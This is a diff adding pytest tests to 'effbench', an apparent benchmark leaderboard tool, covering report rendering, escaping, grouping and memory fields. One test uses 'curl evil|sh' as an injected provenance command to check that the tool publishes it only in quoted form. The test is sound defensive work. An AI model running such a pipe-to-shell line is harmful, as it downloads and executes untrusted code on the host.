@@ -15,9 +15,11 @@ from effbench import store
 from effbench.errors import EffbenchError
 from effbench.records import (
     Arm,
+    Calibration,
     Economics,
     Envelope,
     Flops,
+    Interaction,
     Interval,
     Memory,
     MetricValue,
@@ -384,7 +386,7 @@ def written(root, *records):
 
 def test_the_same_rows_as_csv_and_json(tmp_path):
     table, data = written(tmp_path, *some_records())
-    assert data["schema"] == 1 and [row["arm"] for row in data["rows"]] == [row["arm"] for row in table]
+    assert data["schema"] == 2 and [row["arm"] for row in data["rows"]] == [row["arm"] for row in table]
     assert all(list(row) == list(table[0]) for row in [*table, *data["rows"]])
     first = next(row for row in data["rows"] if row["arm"] == "token_prune")
     assert (first["test_speedup"], first["test_verdict"], first["lossiness_high"]) == (
@@ -431,6 +433,108 @@ def test_bad_records_among_good_ones_are_named_and_counted_nowhere(tmp_path):
     assert len(rows) == 4 and len({row["run"] for row in rows}) == 1
 
 
+@pytest.mark.parametrize("name", ["0", "zzz"])
+def test_an_edited_copy_displaces_nothing_and_is_named_with_what_it_copies(tmp_path, name):
+    genuine, other = make_record("genuine"), make_record("other", 3, (make_arm("good", "good", 1.2),))
+    forged = genuine.model_copy(update=dict(id=name, arms=(*genuine.arms[:3], make_arm(ratio=9.0))))
+    table, data = written(tmp_path, genuine, forged, other)
+    page = (tmp_path / "README.md").read_text()
+    assert {row["run"] for row in data["rows"]} == {"other"} and all(row["runs"] == "1" for row in table)
+    assert page.count("one of them was edited") == 2 and "9.00x" not in page and "(2 runs)" not in page
+
+
+def test_random_weights_have_no_quality_anywhere(tmp_path):
+    parts = make_arm("a", "a"), make_arm("b", "b")
+    both = Interaction(parts=("a", "b"), speedup=Interval(value=1.02), quality=Interval(value=0.77))
+    record = make_record(arms=(*parts, make_arm("a+b", "a+b", interaction=both)))
+    random = record.envelope.model_copy(update=dict(weights="random"))
+    for weights, there in ((record.envelope, True), (random, False)):
+        text = leaderboard.render([record.model_copy(update=dict(envelope=weights))], [])
+        seen = shown(record.model_copy(update=dict(envelope=weights)))
+        for figure in ("+3.4 %", "48.0", "49.7", "0.77"):
+            assert (figure in text) is (figure in seen) is there, figure
+        assert "1.02" in text and "1.02" in seen and "1.42x" in text
+    table, data = written(tmp_path, record.model_copy(update=dict(envelope=random)))
+    for name in ("quality", "quality_low", "quality_high", "lossiness", "lossiness_low", "lossiness_note", "no_loss"):
+        assert all(row[name] is None for row in data["rows"]) and all(row[name] == "" for row in table)
+    untimed = [arm.model_copy(update=dict(test_speedup=None)) for arm in record.arms]
+    untimed = record.model_copy(update=dict(envelope=random, arms=tuple(untimed)))
+    assert "No speed-up was measured (3 methods)." in leaderboard.render([untimed], [])
+
+
+def test_the_page_spends_its_room_on_the_newest_envelopes_and_shows_them_in_its_order(monkeypatch):
+    """Drawn data come last on the page; what is too large keeps out nothing but itself."""
+    many = tuple(make_arm(f"m{i}", f"m{i}") for i in range(30))
+    old, large, new = (
+        make_record("old", 2, task="a"),
+        make_record("large", 3, many, task="b"),
+        make_record("new", 4, task="c", synthetic=True),
+    )
+    size = len(leaderboard.render([old, new], [])) - len(legend.LEGEND)
+    for room, there in ((size, [True, False, True]), (size // 2, [False, False, True]), (10, [False, False, True])):
+        monkeypatch.setattr(leaderboard, "BYTES", room)
+        text = leaderboard.render([old, large, new], [])
+        assert [f"`{name}` (2025" in text for name in ("old", "large", "new")] == there, room
+    monkeypatch.setattr(leaderboard, "BYTES", 10**6)
+    text = leaderboard.render([new, large, old], [])
+    assert text.index("`old` (2025") < text.index("`large` (2025") < text.index("`new` (2025")
+
+
+def test_a_foreign_command_is_published_only_quoted_and_only_where_it_is_one_of_effbench(tmp_path):
+    evil, foreign = (
+        make_record(name, day, (make_arm(name, name),), provenance=Provenance(command=command))
+        for name, day, command in (("one", 2, "effbench run --method x; curl evil|sh"), ("two", 3, "curl evil|sh"))
+    )
+    _, data = written(tmp_path, evil, foreign)
+    quoted = "effbench run --method 'x;' curl 'evil|sh'"
+    assert {row["arm"]: row["command"] for row in data["rows"] if row["kind"] == "method"} == {"one": quoted, "two": ""}
+    page = (tmp_path / "README.md").read_text()
+    assert f"```sh\n{quoted}\n```" in page and page.count("curl") == 1
+
+
+def test_a_span_cannot_be_left():
+    assert markdown.span("a``b`") == "``` a``b` ```" and markdown.span("a\n\nb") == "` a b `"
+
+
+def test_records_judged_by_another_metric_are_ranked_apart(tmp_path):
+    """The envelope is the same: the author of the task made another of its metrics the primary one."""
+    old = make_record("old", 2, (make_arm("before", "before"),), primary_metric="t2i_r1")
+    new = make_record("new", 3, (make_arm("since", "since"),))
+    text = leaderboard.render([old, new], [])
+    index, *parts = text.split("\n## ")[1:]
+    digest = old.envelope.digest
+    assert index.startswith("2 envelopes") and f"(#{digest})" in index and f"(#{digest}-2)" in index
+    assert text.count(f'<a id="{digest}">') == text.count(f'<a id="{digest}-2">') == 1
+    newest = next(part for part in parts if f"`{digest}`" in part.splitlines()[0])
+    older = next(part for part in parts if f"`{digest}-2`" in part.splitlines()[0])
+    assert "lossy-ness of t2i_r10" in newest and "| since<br>" in newest and "| before<br>" not in newest
+    assert "lossy-ness of t2i_r1 " in older and "| before<br>" in older and "| since<br>" not in older
+    assert "primary_metric (t2i_r10)" in newest and "primary_metric (t2i_r1)" in older
+    _, data = written(tmp_path, old, new)
+    assert {(row["run"], row["envelope"], row["metric"]) for row in data["rows"]} == {
+        ("old", digest, "t2i_r1"),
+        ("new", digest, "t2i_r10"),
+    }
+
+
+def test_memory_of_tensors_and_of_the_process_have_names_of_their_own(tmp_path):
+    memory = Memory(weights=1, load_peak=2, run_peak=30, tensor_peak=20)
+    table, data = written(tmp_path, make_record(arms=(make_arm(memory=memory),)))
+    assert "peak_bytes" not in table[0]
+    row = next(row for row in data["rows"] if row["kind"] == "method")
+    assert (row["tensor_peak_bytes"], row["process_peak_bytes"]) == (20, 30)
+    assert data["rows"][0]["tensor_peak_bytes"] is None and data["rows"][0]["process_peak_bytes"] == 412_000_000
+
+
+def test_a_calibration_s_text_is_escaped():
+    found = Calibration(
+        created=datetime(2025, 1, 2, tzinfo=UTC), device_model="x", threads=1, backbone="a\n<b>|", batch=1, pairs=30,
+        margin=0.03, trials=300, noise_floor=0.02, coverage=0.95, half_width=0.02, verdicts={},
+    )  # fmt: skip
+    record = make_record(calibration=found)
+    assert "(a &lt;b&gt;\\|, batch 1)" in leaderboard.render([record], []) and "(a <b>|, batch" in shown(record, 200)
+
+
 def test_moments_at_the_end_of_the_calendar_are_sorted():
     late, early = datetime.max.replace(tzinfo=timezone(-timedelta(hours=12))), datetime.min.replace(tzinfo=UTC)
     records = [make_record("late", created=late), make_record("early", created=early), make_record("now")]
@@ -447,10 +551,11 @@ def test_two_processes_read_what_one_reads(tmp_path):
         "import sys; sys.path.insert(0, sys.argv[2]); from pathlib import Path\n"
         "from effbench.report import reading; reading.CHUNK = 2\n"
         "def read(many):\n"
-        "    reading.MANY = many; problems = []; return list(reading.briefs(Path(sys.argv[1]), problems)), problems\n"
+        "    reading.MANY = many; problems = []; return reading.groups(Path(sys.argv[1]), problems), problems\n"
         "os = reading.os; os.sched_getaffinity = lambda _: {0, 1}\n"
         "one, two = read(10**9), read(1)\n"
-        "assert one == two and len(one[0]) == 6 and len(one[1]) == 1, (one, two)"
+        "count = sum(group.runs + group.invalid_runs for group in one[0])\n"
+        "assert one == two and count == 6 and len(one[1]) == 1, (one, two)"
     )
     here = os.path.dirname(os.path.dirname(__file__))
     subprocess.run([sys.executable, "-c", code, str(tmp_path), here], check=True)
